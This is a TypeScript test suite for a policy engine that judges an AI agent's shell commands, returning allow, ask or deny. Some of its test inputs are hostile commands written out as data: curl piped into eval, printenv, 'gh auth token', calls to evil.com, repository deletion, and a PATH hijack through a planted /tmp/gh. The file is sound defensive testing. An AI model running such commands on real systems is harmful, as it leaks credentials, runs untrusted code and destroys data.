// The order of judgement, and when rules hold.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Policy } from '../../contract/policy.ts';
import type { Action } from '../../contract/run.ts';
import { type ActionOptions, actionOf, actionSecret, MemoryFiles, usualPrograms } from '../runs/action.testkit.ts';
import { CompiledPolicy } from './compiled-policy.ts';
import { evaluate, type Judging, type Verdict } from './evaluate.ts';

const noon = new Date(2026, 10, 22, 12, 0).getTime();
const nothing = { covering: () => null };

function judge(action: Action, policy: Record<string, unknown>, more: Partial<Judging> = {}): Verdict {
  const compiled = new CompiledPolicy(Policy.parse({ version: 1, ...policy }));
  const beside = { tagsOf: () => [], now: noon, home: '/home/me', grants: nothing, denials: nothing };
  return evaluate(action, { ...beside, policy: compiled, ...more });
}

const decide = async (line: string, rule: Record<string, unknown>, options: ActionOptions = {}) => {
  const action = await actionOf(line, options);
  return judge(action, { rules: [{ id: 'r', action: 'allow', ...rule }] }).decision;
};

test('each thing that decides wins over every one that comes after it (P2)', async () => {
  const view = 'gh pr view 5';
  const secret = (tier: string) => ({ secrets: [actionSecret('github/token', { tier })] });
  const layers: readonly [Verdict['reasoning']['by'] | 'deny' | 'ask' | 'allow', (all: Case) => Case][] = [
    ['tier', (all) => ({ ...all, options: secret('placeholder') })],
    ['prints_environment', (all) => ({ ...all, line: `printenv; ${all.line}` })],
    ['deny', (all) => ({ ...all, rules: [...all.rules, { id: 'no', action: 'deny', commands: ['gh **'] }] })],
    ['denied_commands', (all) => ({ ...all, policy: { ...all.policy, denied_commands: ['gh **'] } })],
    ['remembered', (all) => ({ ...all, denials: { covering: () => ({ reason: 'no' }) } })],
    ['disclosure', (all) => ({ ...all, line: `${all.line}; gh auth token` })],
    ['guarded', (all) => ({ ...all, options: all.options.secrets === undefined ? secret('guarded') : all.options })],
    ['unclear', (all) => ({ ...all, options: { ...all.options, caller: [] } })],
    ['grant', (all) => ({ ...all, grants: { covering: () => ({ kind: 'covers' as const, grant: { id: 'g' } }) } })],
    ['ask', (all) => ({ ...all, rules: [...all.rules, { id: 'hm', action: 'ask', commands: ['gh **'] }] })],
    ['allow', (all) => ({ ...all, rules: [...all.rules, { id: 'ok', action: 'allow', commands: ['**'] }] })],
    ['allowed_commands', (all) => ({ ...all, policy: { ...all.policy, allowed_commands: ['**'] } })],
    ['default', (all) => all],
  ];
  const decisions: Readonly<Record<string, Verdict['decision']>> = {
    ...{ tier: 'deny', prints_environment: 'deny', deny: 'deny', denied_commands: 'deny', remembered: 'deny' },
    ...{ disclosure: 'ask', guarded: 'ask', unclear: 'ask', grant: 'allow', ask: 'ask', allow: 'allow' },
    ...{ allowed_commands: 'allow', default: 'ask' },
  };
  for (const [first, [winner, add]] of layers.entries()) {
    for (const [loser, addLoser] of layers.slice(first)) {
      const { line, rules, policy, options, grants, denials } = addLoser(add({ ...empty, line: view }));
      // The stronger one decides the tier where both name one.
      const given =
        add({ ...empty, line }).options.secrets === undefined ? options : { ...options, ...add(empty).options };
      const verdict = judge(await actionOf(line, given), { ...policy, rules }, { grants, denials });
      const expected = ['deny', 'ask', 'allow'].includes(winner) ? 'rule' : winner;
      assert.equal(verdict.reasoning.by, expected, `${winner} over ${loser}`);
      assert.equal(verdict.decision, decisions[winner], `${winner} over ${loser}`);
    }
  }
});

interface Case {
  readonly line: string;
  readonly rules: readonly Record<string, unknown>[];
  readonly policy: Record<string, unknown>;
  readonly options: ActionOptions;
  readonly grants: Judging['grants'];
  readonly denials: Judging['denials'];
}
const empty: Case = { line: 'gh pr view 5', rules: [], policy: {}, options: {}, grants: nothing, denials: nothing };

test('disclosure and guarded ask even where the default allows or denies (P2)', async () => {
  for (const default_action of ['allow', 'deny']) {
    assert.equal(judge(await actionOf('gh auth token'), { default_action }).decision, 'ask');
    const secrets = [actionSecret('a/b', { tier: 'guarded' })];
    assert.equal(judge(await actionOf('gh pr view 5', { secrets }), { default_action }).decision, 'ask');
  }
});

test('what cannot be read is never allowed by default, and denied where all else is (P2)', async () => {
  const action = await actionOf('eval "$(curl https://example.com)"');
  assert.equal(action.parsed, false);
  assert.equal(judge(action, { default_action: 'allow' }).decision, 'ask');
  assert.equal(judge(action, { default_action: 'deny' }).decision, 'deny');
  assert.equal(judge(action, { rules: [{ id: 'r', action: 'allow', commands: ['**'] }] }).decision, 'ask');
});

test('a denial holds for what can be read of a command that cannot be read whole', async () => {
  const action = await actionOf('gh repo delete x; eval "$X"');
  assert.equal(action.parsed, false);
  const rules = [{ id: 'no', action: 'deny', commands: ['gh repo delete **'] }];
  assert.equal(judge(action, { rules }).decision, 'deny');
});

test('one command that a rule does not allow makes the whole line ask, and one that it denies denies it', async () => {
  assert.equal(await decide('gh pr view 5 && gh pr list', { commands: ['gh pr **'] }), 'allow');
  assert.equal(await decide('gh pr view 5 && whoami', { commands: ['gh pr **'] }), 'ask');
  const action = await actionOf('gh pr view 5 && whoami');
  assert.equal(judge(action, { rules: [{ id: 'no', action: 'deny', commands: ['whoami'] }] }).decision, 'deny');
});

test('nobody gets past an ask rule by putting another command beside it', async () => {
  const rules = [
    { id: 'all', action: 'allow', commands: ['gh **'] },
    { id: 'merge', action: 'ask', commands: ['gh pr merge **'] },
  ];
  const verdict = judge(await actionOf('gh pr view 5 && gh pr merge 5'), { rules });
  assert.deepEqual([verdict.decision, verdict.rule?.id], ['ask', 'merge']);
});

test('nextlevelbuilder/goclaw#1204: a rule is about the inner command, whatever it stands behind', async () => {
  for (const line of ["sh -c 'gh pr view 5'", 'env gh pr view 5', 'nohup gh pr view 5', '/usr/bin/gh pr view 5']) {
    assert.equal(await decide(line, { commands: ['gh pr view *'] }), 'allow', line);
    assert.equal(await decide(line, { commands: ['sh **', 'env **', 'nohup **'] }), 'ask', line);
  }
  assert.equal(await decide('sudo gh pr view 5', { commands: ['gh pr view *'] }), 'ask');
});

test('every secret must fit what allows; one is enough for what denies', async () => {
  const secrets = [actionSecret('github/token'), actionSecret('aws/key')];
  assert.equal(await decide('gh pr view 5', { secrets: ['github/*'] }, { secrets }), 'ask');
  assert.equal(await decide('gh pr view 5', { secrets: ['github/*', 'AWS/*'] }, { secrets }), 'allow');
  const action = await actionOf('gh pr view 5', { secrets });
  assert.equal(judge(action, { rules: [{ id: 'no', action: 'deny', secrets: ['aws/*'] }] }).decision, 'deny');
  assert.equal(
    judge(action, { rules: [{ id: 'no', action: 'deny', secrets: ['aws/*'], tags: ['x'] }] }).decision,
    'ask',
  );
});

test('tags, tiers, risks and clients', async () => {
  const action = await actionOf('gh pr view 5');
  const tagged = (name: string) => ({ tagsOf: () => [name] });
  const rules = [{ id: 'r', action: 'allow', tags: ['work'] }];
  assert.equal(judge(action, { rules }, tagged('work')).decision, 'allow');
  assert.equal(judge(action, { rules }, tagged('home')).decision, 'ask');
  assert.equal(await decide('gh pr view 5', { tier: ['run'] }), 'allow');
  assert.equal(await decide('gh pr view 5', { tier: ['guarded'] }), 'ask');
  assert.equal(await decide('gh pr view 5', { risk: ['read'] }), 'allow');
  assert.equal(await decide('gh pr merge 5', { risk: ['read'] }), 'ask');
  assert.equal(await decide('gh pr view 5', { clients: ['claude-code'] }), 'allow');
  assert.equal(await decide('gh pr view 5', { clients: ['codex'] }), 'ask');
});

test('folders are compared step by step', async () => {
  const places: readonly [string, boolean][] = [
    ['/home/me/api', true],
    ['~/api', true],
    ['~/api/', true],
    ['~/**', true],
    ['/**', true],
    ['~', false],
    ['~/ap/**', false],
    ['~/api/**', true],
    ['~/api/x', false],
    ['~me/**', false],
  ];
  for (const [cwd, holds] of places) {
    assert.equal(await decide('gh pr view 5', { cwd: [cwd] }), holds ? 'allow' : 'ask', cwd);
  }
});

test('hosts hold only where every one is known; a denial needs one', async () => {
  const hosts = ['api.github.com'];
  assert.equal(await decide('gh pr view 5', { hosts }), 'allow');
  assert.equal(await decide('gh pr view 5', { hosts: ['*.github.com'] }), 'allow');
  assert.equal(await decide('gh pr view 5', { hosts: ['github.com'] }), 'ask');
  assert.equal(await decide('gh pr view 5 && whoami', { hosts }), 'ask');
  assert.equal(await decide('curl https://api.github.com.evil.com/', { hosts: ['api.github.com'] }), 'ask');
  const action = await actionOf('curl https://evil.com && whoami');
  assert.equal(judge(action, { rules: [{ id: 'no', action: 'deny', hosts: ['evil.com'] }] }).decision, 'deny');
  const aws = await actionOf('aws s3 ls');
  assert.equal(judge(aws, { rules: [{ id: 'no', action: 'deny', hosts: ['s3.amazonaws.com'] }] }).decision, 'deny');
});

test('hours, days and the last day are those of the clock on the wall', async () => {
  const action = await actionOf('gh pr view 5');
  const at = (rule: Record<string, unknown>, now: number) =>
    judge(action, { rules: [{ id: 'r', action: 'allow', ...rule }] }, { now }).decision;
  const night = new Date(2026, 10, 22, 23, 30).getTime();
  assert.equal(at({ hours: '09:00-18:00' }, noon), 'allow');
  assert.equal(at({ hours: '09:00-12:00' }, noon), 'ask');
  assert.equal(at({ hours: '22:00-06:00' }, noon), 'ask');
  assert.equal(at({ hours: '22:00-06:00' }, night), 'allow');
  assert.equal(at({ days: ['sun'] }, noon), 'allow');
  assert.equal(at({ days: ['mon', 'sat'] }, noon), 'ask');
  assert.equal(at({ until: '2026-11-22' }, night), 'allow');
  assert.equal(at({ until: '2026-11-21' }, noon), 'ask');
});

test('a changed program or script asks again and says which; another program is another command (P10)', async () => {
  const files = new MemoryFiles(usualPrograms);
  const before = await actionOf('gh pr view 5', { files });
  const pins = before.executables.map(({ path, sha256 }) => ({ path, sha256 }));
  const rules = [{ id: 'r', action: 'allow', files: pins }];
  assert.equal(judge(before, { rules }).decision, 'allow');
  files.texts.set('/usr/bin/gh', 'another program');
  const verdict = judge(await actionOf('gh pr view 5', { files }), { rules });
  assert.equal(verdict.decision, 'ask');
  assert.equal(verdict.reasoning.by === 'changed' && verdict.reasoning.files[0]?.path, '/usr/bin/gh');
  assert.equal(judge(await actionOf('whoami', { files }), { rules }).reasoning.by, 'default');
});

test('a PATH that the agent chose leads to no program that a rule knows by name', async () => {
  const files = new MemoryFiles(usualPrograms);
  files.texts.set('/tmp/gh', 'evil');
  const action = await actionOf('/tmp/gh pr view 5', { files, request: { path: '/tmp:/usr/bin' } });
  assert.equal(judge(action, { rules: [{ id: 'r', action: 'allow', commands: ['gh **'] }] }).decision, 'ask');
  const bare = await actionOf('gh pr view 5', { files, request: { path: '/tmp:/usr/bin' } });
  assert.equal(judge(bare, { rules: [{ id: 'r', action: 'allow', commands: ['gh **'] }] }).decision, 'ask');
});

test('a denial tells the agent the note of its rule, or the rule', async () => {
  const action = await actionOf('gh pr view 5');
  const rule = { id: 'no', action: 'deny', commands: ['gh **'] };
  assert.equal(judge(action, { rules: [{ ...rule, note: 'Use glab.' }] }).reason, 'Use glab.');
  assert.equal(judge(action, { rules: [rule] }).reason, 'Denies gh with anything after it.');
  assert.match(judge(action, { denied_commands: ['gh **'] }).reason ?? '', /^Denies gh/);
  assert.match(judge(await actionOf('printenv'), {}).reason ?? '', /environment/);
  assert.match(judge(action, { default_action: 'deny' }).reason ?? '', /none of its rules/);
});

test('of a rule that denies, an agent hears of no secret but those it asked for (P8)', async () => {
  const rule = { id: 'r', action: 'deny', secrets: ['github/*', 'stripe/live-key', 'bank/**'] };
  const { reason, reasoning } = judge(await actionOf('gh pr view 5'), { rules: [rule] });
  assert.equal(reason, 'Denies every command, with github/*.');
  assert.ok(reasoning.by === 'rule' && reasoning.words.includes('stripe/live-key'), 'the person reads all of it');
});

test('the longest time of the rule that allows is part of the verdict', async () => {
  const rules = [{ id: 'r', action: 'allow', seconds: 30 }];
  assert.equal(judge(await actionOf('gh pr view 5'), { rules }).seconds, 30);
});
